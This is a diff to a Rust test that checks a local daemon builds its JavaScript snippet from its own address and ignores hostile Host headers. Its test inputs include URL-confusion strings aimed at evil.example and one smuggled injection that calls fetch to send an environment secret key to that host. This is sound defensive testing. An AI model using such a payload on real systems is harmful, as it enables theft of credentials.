@@ -97,14 +97,17 @@ Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
 fn the_snippet_base_is_the_daemons_own_address_whatever_the_host_header_says() {
     let d = daemon();
     let want = format!("const BASE = \"{}\";", d.url);
-    for host in [
+    for (n, host) in [
         "127.0.0.1:1@evil.example",
         "127.0.0.1:1\";fetch('https://evil.example/?k='+process.env.HQ_CONNECTION_KEY);\"",
         "localhost:1/../@evil.example",
         "[::1]:1#@evil.example",
         "evil.example",
-    ] {
-        let body = json!({"name": "docs", "patterns": ["knowledge/"]}).to_string();
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let body = json!({"name": format!("docs-{n}"), "patterns": ["knowledge/"]}).to_string();
         let (status, text) = raw_request(&d, host, "POST", "/v1/connections", &body);
         assert_eq!(status, 201, "{host}: {text}");
         let v: Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{host}: {e}: {text}"));
